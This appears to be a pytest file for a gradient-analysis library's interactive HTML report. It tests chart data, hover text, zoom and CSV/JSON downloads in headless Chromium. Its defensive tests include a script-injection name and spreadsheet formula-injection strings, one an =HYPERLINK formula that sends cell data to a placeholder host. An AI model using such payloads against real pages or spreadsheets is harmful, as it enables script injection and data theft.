"""Interactive figures of the HTML report: their data, hover text, zoom and downloads.

The chart data are checked in Python against the analysis objects; the page itself is
opened in headless Chromium (networking disabled, every host name unresolvable) with a small
test script appended: it moves the pointer over a figure, drags a zoom, and presses the CSV
and JSON buttons, recording the hover text and the text handed to the download ``Blob``. The
test then compares both with numbers it takes from the diagnosis and from the synthetic
training history it made, never from the report.
"""

from __future__ import annotations

import csv
import io
import json
import math
import re
import subprocess
from types import SimpleNamespace
from typing import Any

import numpy as np
import pytest
import torch
from test_browser import _chromium, _console_problems, _flags
from torch import nn

import gradscope as gs
from gradscope.reporting.figures.chart import Chart, ChartError, Column, Series, to_json
from gradscope.reporting.writers import html as H
from gradscope.reporting.writers.interactive import script

T, B = 40, 4
STEPS = np.array([0, 50, 100, 150, 200])
RATES = np.array([-0.9, -0.7, np.nan, -0.4, -0.3])
REGIMES = ["vanishing", "vanishing", "", "vanishing", "neutral"]
LOSS_RATES = np.array([-1.0, -0.8, -0.6, -0.5, -0.45])


class History:
    """A Monitor history with known numbers (the protocol of gradscope.reporting)."""

    def __init__(self, name: str) -> None:
        self.names = [name]
        self.steps = STEPS
        t = np.arange(T + 1)
        self.norms = np.exp(-0.2 * (T - t))[None, :] * (1.0 + np.arange(len(STEPS)))[:, None]
        self.norms[2, 5] = 0.0  # no logarithm: a grey cell, an empty CSV field

    def grad_norms(self, name: str) -> np.ndarray:
        return self.norms

    def summaries(self, name: str) -> dict[str, Any]:
        ci = np.stack([RATES - 0.05, RATES + 0.05], axis=1)
        return dict(rate=RATES, regime=REGIMES, rate_ci=ci, loss_rate=LOSS_RATES)


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> SimpleNamespace:
    x = torch.randn(T, B, 3, generator=torch.Generator().manual_seed(0))
    with torch.random.fork_rng():
        torch.manual_seed(0)
        model = nn.LSTM(3, 16)
    prof = gs.profile(model, x, analysis={"progress": False})
    (layer,) = prof.diagnosis.layers
    hist = History(layer.name)
    path = gs.report(
        SimpleNamespace(history=hist, diagnosis=prof), tmp_path_factory.mktemp("live") / "r.html"
    )
    return SimpleNamespace(prof=prof, layer=layer, history=hist, html=path)


# --------------------------------------------------------------------------- chart data
def test_chart_names_a_missing_column() -> None:
    cols = [Column("lag", "steps", np.arange(3)), Column("y", "nats", np.zeros(3))]
    with pytest.raises(ChartError, match=r"names columns \['z'\].*holds \['lag', 'y'\]"):
        Chart("t", "x", "y", cols, [Series("line", "lag", "z", "curve", "#000000")])
    with pytest.raises(ChartError, match="differ in length"):
        Chart("t", "x", "y", [cols[0], Column("y", "nats", np.zeros(4))])


def test_chart_json_writes_finite_numbers_and_nulls() -> None:
    cols = [Column("v", "u", np.array([1.0, np.nan, -np.inf, 1 / 3, 2.5e-300]))]
    data = json.loads(to_json(Chart("t", "x", "y", cols)))
    assert data["columns"][0]["values"] == [1, None, None, 0.3333333, 2.5e-300]


def test_figures_without_finite_data_or_too_large_stay_pictures() -> None:
    from gradscope.reporting.content.document import Panel
    from gradscope.reporting.content.panels import LAYER_PANELS
    from gradscope.reporting.writers.interactive import MAX_VALUES, panel_html

    (spec,) = [s for s in LAYER_PANELS if s.key == "heatmap"]

    def live(log_norms: np.ndarray) -> str | None:
        return panel_html(Panel(spec, dict(log_norms=log_norms, of="state"), None), "f")

    assert live(np.full((6, 3), np.nan)) is None  # the PNG says "no finite gradient norm"
    assert live(np.zeros((MAX_VALUES // 100 + 1, 100))) is None
    page = live(np.array([[0.0, np.nan], [-1.0, -2.0]]))
    assert page is not None and 'data-file="f"' in page
    data = json.loads(re.search(r'class="gs-data">(.*?)</script>', page).group(1))
    assert data["grid"]["z"]["values"] == [[0, -1], [None, -2]]  # rows are sequences


def test_names_cannot_break_out_of_the_page() -> None:
    from gradscope.reporting.content.document import Panel
    from gradscope.reporting.content.panels import COMPARISON_PANEL
    from gradscope.reporting.figures import Curve
    from gradscope.reporting.writers.interactive import panel_html

    name = 'x</script><!--<script>alert("hi")</script>'
    curves = {name: Curve(np.arange(3), -0.5 * np.arange(3), None, -0.5, "vanishing")}
    page = panel_html(Panel(COMPARISON_PANEL, dict(curves=curves), None), "comparison")
    assert page.count("<script") == 1 and page.count("</script>") == 1 and "<!--" not in page
    (data,) = re.findall(r'class="gs-data">(.*?)</script>', page)
    assert json.loads(data)["columns"][0]["values"] == [name] * 3


def test_panels_declare_their_data(run: SimpleNamespace) -> None:
    from gradscope.reporting.content.panels import LAYER_PANELS, make_panel

    d = run.layer.decay["state"]
    (spec,) = [s for s in LAYER_PANELS if s.key == "decay-state"]
    chart = make_panel(spec, run.layer).chart()
    cols = {c.name: np.asarray(c.values, dtype=float) for c in chart.columns}
    np.testing.assert_array_equal(cols["lag"], d.lags)
    np.testing.assert_array_equal(cols["ln_norm_median"], d.median)
    np.testing.assert_array_equal(cols["ln_norm_p10"], d.band[0])
    # a panel without a chart, or without data, has none
    (eig,) = [s for s in LAYER_PANELS if s.key == "eigenvalues"]
    assert make_panel(eig, run.layer).chart() is None


def test_static_html_has_no_script(run: SimpleNamespace) -> None:
    from gradscope.reporting.content.build import Run, build_document

    runs = [Run(None, "a profile", diagnosis=run.prof.diagnosis, history=run.history)]
    page = H.render(build_document(runs, "static", "now", {}), interactive=False)
    assert "<script" not in page and "data-interactive" not in page


def test_page_loads_nothing_from_a_network(run: SimpleNamespace) -> None:
    src = run.html.read_text(encoding="utf-8")
    assert src.count(script()) == 1  # once per page, however many figures
    live = re.findall(r'data-figure="([^"]+)" data-interactive="true"', src)
    assert sorted(live) == [
        "decay-input",  # no loss gradients in this run: no decay-loss
        "decay-state",  # one layer: no shared figures, the layer keeps its own
        "heatmap",
        "lyapunov-convergence",
        "spectral-time",
        "training-heatmap",
        "training-rate",
    ]
    assert not re.search(r"(?i)<script[^>]*\bsrc=|<link\b", src)
    assert "http://" not in src and "https://" not in src


# --------------------------------------------------------------------------- in the browser
PROBE = """<script>
window.addEventListener("load", function () {
  var out = {}, made = [], RealBlob = window.Blob;
  window.Blob = function (parts, opts) { made.push({text: parts.join(""), type: opts.type});
    return new RealBlob(parts, opts); };
  HTMLAnchorElement.prototype.click = function () {
    made[made.length - 1].name = this.download; made[made.length - 1].href = this.href; };
  function at(cv, fx, fy, type, target) {
    var r = cv.getBoundingClientRect();
    (target || cv).dispatchEvent(new MouseEvent(type || "mousemove", {bubbles: true,
      clientX: r.left + r.width * fx, clientY: r.top + r.height * fy}));
  }
  function tip(fig) { var t = fig.querySelector(".gs-tip"); return t.hidden ? null : t.innerText; }
  document.querySelectorAll("figure[data-interactive]").forEach(function (fig) {
    var cv = fig.querySelector("canvas"), key = fig.getAttribute("data-figure"), o = {};
    at(cv, 0.5, 0.45); o.hover = tip(fig);
    var t = fig.querySelector(".gs-tip"), near = t.querySelector(".gs-near");
    o.tip_h = t.offsetHeight; o.plot_h = cv.clientHeight; o.near = near ? near.innerText : null;
    at(cv, 0.3, 0.45); o.hover_left = tip(fig);
    at(cv, 0.3, 0.45, "mousedown"); at(cv, 0.6, 0.45); at(cv, 0.6, 0.45, "mouseup", window);
    at(cv, 0.0, 0.45); at(cv, 66.5 / cv.getBoundingClientRect().width, 0.45);
    o.hover_zoomed = tip(fig);
    cv.dispatchEvent(new MouseEvent("dblclick", {bubbles: true}));
    at(cv, 0.5, 0.45); o.hover_reset = tip(fig);
    fig.querySelector('button[data-act="csv"]').click();
    fig.querySelector('button[data-act="json"]').click();
    o.csv = made[made.length - 2]; o.json = made[made.length - 1];
    o.id = fig.id; out[key] = o;
  });
  var pre = document.createElement("pre"); pre.id = "gs-probe";
  pre.textContent = JSON.stringify(out); document.body.appendChild(pre);
});
</script>"""


def _probe(page_html: str, tmp: Any) -> dict[str, Any]:
    """Open ``page_html`` in headless Chromium with :data:`PROBE`; what the probe recorded."""
    chromium = _chromium()
    page = tmp / "probe.html"
    page.write_text(page_html.replace("</body>", PROBE + "</body>"), encoding="utf-8")
    proc = subprocess.run(
        [
            chromium,
            *_flags(tmp / "profile"),
            "--window-size=1280,2000",
            "--dump-dom",
            "--virtual-time-budget=3000",
            page.as_uri(),
        ],
        capture_output=True,
        text=True,
        timeout=180,
    )
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert _console_problems(proc.stderr) == []
    found = re.search(r'<pre id="gs-probe">(.*?)</pre>', proc.stdout, re.S)
    assert found, "the probe did not run: " + proc.stdout[-500:]
    import html

    return json.loads(html.unescape(found.group(1)))


@pytest.fixture(scope="module")
def browser(run: SimpleNamespace, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    return _probe(run.html.read_text(encoding="utf-8"), tmp_path_factory.mktemp("probe"))


def _ln_of(line: str) -> float:
    """The natural log a hover line shows in brackets, e.g. ``median: 3.2e-5 (ln -10.35)``."""
    return float(re.search(r"\(ln (-?[\d.e+-]+)\)", line).group(1))


def _norm_log10(line: str) -> float:
    """log10 of the value a hover line shows first, e.g. ``3.20e-350`` (beyond float range)."""
    m, e = re.search(r": (-?[\d.]+)(?:e(-?\d+))?", line).groups()
    return math.log10(float(m)) + int(e or 0)


def _table(download: dict[str, Any]) -> dict[str, list[Any]]:
    rows = list(csv.reader(io.StringIO(download["text"])))
    head = [h.split(" (")[0] for h in rows[0]]
    return {h: [r[i] for r in rows[1:]] for i, h in enumerate(head)}


def _floats(values: list[Any]) -> np.ndarray:
    return np.array([np.nan if v in ("", None) else float(v) for v in values])


def _downloads_match(o: dict[str, Any], expected: dict[str, np.ndarray]) -> None:
    assert o["csv"]["name"] == o["id"] + ".csv" and o["csv"]["type"] == "text/csv"
    assert o["json"]["name"] == o["id"] + ".json" and o["json"]["type"] == "application/json"
    assert o["csv"]["href"].startswith("blob:")
    got_csv = _table(o["csv"])
    got_json = {c["name"]: c["values"] for c in json.loads(o["json"]["text"])["columns"]}
    assert list(got_csv) == list(got_json) == list(expected)
    for name, want in expected.items():
        for got in (got_csv[name], got_json[name]):
            if want.dtype.kind in "OU":
                assert [str(v or "") for v in got] == list(want), name
            else:
                np.testing.assert_allclose(_floats(got), want, rtol=1e-6, equal_nan=True)


@pytest.mark.browser
def test_decay_hover_zoom_and_download(run: SimpleNamespace, browser: dict[str, Any]) -> None:
    d = run.layer.decay["state"]
    o = browser["decay-state"]
    lines = o["hover"].splitlines()
    lag = int(re.fullmatch(r"lag = (\d+)", lines[0]).group(1))
    k = int(np.flatnonzero(d.lags == lag)[0])
    (median,) = [x for x in lines if x.startswith("median:")]
    assert math.isclose(_ln_of(median), d.median[k], rel_tol=1e-3)
    assert abs(_norm_log10(median) - d.median[k] / math.log(10)) < 0.01
    assert o["hover_reset"] == o["hover"]
    # dragging from 30% to 60% of the width: the left edge of the plot is now where 30% was
    left = int(re.match(r"lag = (\d+)", o["hover_left"]).group(1))
    zoomed = int(re.match(r"lag = (\d+)", o["hover_zoomed"]).group(1))
    assert abs(zoomed - left) <= 1 and zoomed < lag

    lo, hi = d.fit_lags
    fit = np.where((d.lags >= lo) & (d.lags <= hi), d.intercept + d.rate * d.lags, np.nan)
    expected = dict(
        lag=np.asarray(d.lags, float),
        ln_norm_median=d.median,
        ln_norm_p10=d.band[0],
        ln_norm_p90=d.band[1],
        ln_norm_fit=fit,
    )
    _downloads_match(o, expected)


@pytest.mark.browser
def test_heatmap_hover_and_download(run: SimpleNamespace, browser: dict[str, Any]) -> None:
    d = run.layer.decay["state"]  # the run has no loss: the heat map shows the state gradient
    o = browser["heatmap"]
    head, value = o["hover"].splitlines()
    seq, lag = map(int, re.fullmatch(r"sequence (\d+), lag (\d+)", head).groups())
    assert math.isclose(_ln_of(value), d.log_norms[lag, seq], rel_tol=1e-3)
    n_lags, n_seq = d.log_norms.shape
    expected = dict(
        sequence=np.repeat(np.arange(n_seq), n_lags).astype(float),
        lag=np.tile(np.asarray(d.lags, float), n_seq),
        ln_norm=d.log_norms.T.ravel(),
    )
    _downloads_match(o, expected)


@pytest.mark.browser
def test_spectral_time_download(run: SimpleNamespace, browser: dict[str, Any]) -> None:
    eig, svd = run.layer.spectrum_eig, run.layer.spectrum_svd
    np.testing.assert_array_equal(eig.steps, svd.steps)  # one step column serves both
    expected: dict[str, np.ndarray] = {"step": np.asarray(svd.steps, dtype=float)}
    for name, values in (("norm", svd.norm), ("radius", eig.radius)):
        q = np.nanpercentile(np.asarray(values, dtype=float), [50, 10, 90], axis=1)
        expected.update({f"{name}_median": q[0], f"{name}_p10": q[1], f"{name}_p90": q[2]})
    o = browser["spectral-time"]
    _downloads_match(o, expected)
    lines = o["hover"].splitlines()
    k = list(svd.steps).index(int(lines[0].split(" = ")[1]))
    assert f"norm median: {expected['norm_median'][k]:.4g}" in lines


@pytest.mark.browser
def test_training_views_hover_and_download(run: SimpleNamespace, browser: dict[str, Any]) -> None:
    o = browser["training-rate"]
    lines = o["hover"].splitlines()
    step = int(re.fullmatch(r"training step = (\d+)", lines[0]).group(1))
    i = STEPS.tolist().index(step)
    (loss,) = [x for x in lines if x.startswith("loss gradient")]
    assert math.isclose(float(loss.split(": ")[1]), LOSS_RATES[i], rel_tol=1e-3)
    state = [x for x in lines if x.startswith("state rate")]
    if np.isnan(RATES[i]):
        assert state == []
    else:
        assert state == [f"state rate: {RATES[i]:.4g} ({REGIMES[i]})"]
    # further left, a step with a fitted state rate: its value and regime
    lines = o["hover_left"].splitlines()
    i = STEPS.tolist().index(int(lines[0].split(" = ")[1]))
    assert f"state rate: {RATES[i]:.4g} ({REGIMES[i]})" in lines and REGIMES[i]
    ci = np.stack([RATES - 0.05, RATES + 0.05])
    expected = dict(
        training_step=STEPS.astype(float),
        state_rate=RATES,
        state_rate_ci_low=ci[0],
        state_rate_ci_high=ci[1],
        regime=np.array(REGIMES, dtype=object),
        loss_rate=LOSS_RATES,
    )
    _downloads_match(o, expected)

    o = browser["training-heatmap"]
    norms = run.history.norms
    head, value = o["hover"].splitlines()
    step, t = map(int, re.fullmatch(r"training step (\d+), t (\d+)", head).groups())
    i = STEPS.tolist().index(step)
    assert math.isclose(float(value.split(": ")[1]), norms[i, t], rel_tol=1e-3)
    expected = dict(
        training_step=np.repeat(STEPS, T + 1).astype(float),
        t=np.tile(np.arange(T + 1), len(STEPS)).astype(float),
        norm=norms.ravel(),
    )
    _downloads_match(o, expected)


#: Names a spreadsheet would run as formulas, and what the CSV must hold instead.
FORMULAS = {
    '=HYPERLINK("http://example.invalid/?"&A1,"open")': "'=HYPERLINK",
    "+1+1": "'+1+1",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\tx": "'\tx",
    "LSTM": "LSTM",
}


@pytest.mark.browser
def test_csv_download_neutralises_formulas(tmp_path: Any) -> None:
    """Regression: a run named ``=...`` became a formula in the CSV of the comparison."""
    from gradscope.reporting.content.document import Panel
    from gradscope.reporting.content.panels import COMPARISON_PANEL
    from gradscope.reporting.figures import Curve
    from gradscope.reporting.writers.interactive import head, panel_html

    lags = np.arange(4)
    curves = {n: Curve(lags, -0.5 * lags, None, -0.5, "vanishing") for n in FORMULAS}
    fig = panel_html(Panel(COMPARISON_PANEL, dict(curves=curves), None), "cmp")
    page = f"<!DOCTYPE html><html><head>{head()}</head><body>{fig}</body></html>"
    o = _probe(page, tmp_path)["comparison"]
    rows = list(csv.reader(io.StringIO(o["csv"]["text"])))
    col = [h.split(" (")[0] for h in rows[0]].index("model")
    got = list(dict.fromkeys(r[col] for r in rows[1:]))
    assert len(got) == len(FORMULAS)
    for cell, want in zip(got, FORMULAS.values()):
        assert cell.startswith(want), (cell, want)
    assert [cell.lstrip("'") for cell in got] == list(FORMULAS)  # the name, after the '
    # numbers stay numbers (a negative one is not a formula) and JSON keeps the names
    ln_norm = [h.split(" (")[0] for h in rows[0]].index("ln_norm_median")
    assert [float(r[ln_norm]) for r in rows[1:5]] == [0.0, -0.5, -1.0, -1.5]
    (model,) = [c for c in json.loads(o["json"]["text"])["columns"] if c["name"] == "model"]
    assert list(dict.fromkeys(model["values"])) == list(FORMULAS)


@pytest.mark.browser
def test_comparison_hover_names_the_nearest_curves_not_all(tmp_path: Any) -> None:
    """Regression (#27): the hover text listed all 18 series of a comparison over the plot."""
    from gradscope.reporting.content.document import Panel
    from gradscope.reporting.content.panels import COMPARISON_PANEL
    from gradscope.reporting.figures import Curve
    from gradscope.reporting.writers.interactive import head, panel_html

    lags = np.arange(20)
    flat = np.ones(20)
    names = [f"model {i}" for i in range(9)]  # 9 curves with bands: 18 series
    curves = {
        n: Curve(
            lags,
            -2.0 * i * flat,
            np.stack([(-2.0 * i - 0.5) * flat, (-2.0 * i + 0.5) * flat]),
            0.0,
            "neutral",
        )
        for i, n in enumerate(names)
    }
    fig = panel_html(Panel(COMPARISON_PANEL, dict(curves=curves), None), "cmp")
    page = f"<!DOCTYPE html><html><head>{head()}</head><body>{fig}</body></html>"
    o = _probe(page, tmp_path)["comparison"]
    lines = o["hover"].splitlines()
    # the pointer sits at the middle of the plot: model 4 (ln = -8, the middle of the data
    # range), with its neighbours above (model 3) and below (model 5); each with its band
    shown = [n for n in names if any(line.startswith(f"{n}: ") for line in lines)]
    assert shown == ["model 3", "model 4", "model 5"]
    assert sum(line.startswith(("model 3 10", "model 4 10", "model 5 10")) for line in lines) == 3
    assert o["near"].startswith("model 4")
    assert lines[-1] == "+ 6 more curves: move up or down"
    assert len(lines) == 1 + 3 * 2 + 1  # the lag, three curves with their bands, the rest
    median = next(line for line in lines if line.startswith("model 4: "))
    assert math.isclose(_ln_of(median), -8.0, rel_tol=1e-6)
    assert o["tip_h"] < 0.5 * o["plot_h"], o["hover"]  # it no longer covers the plot
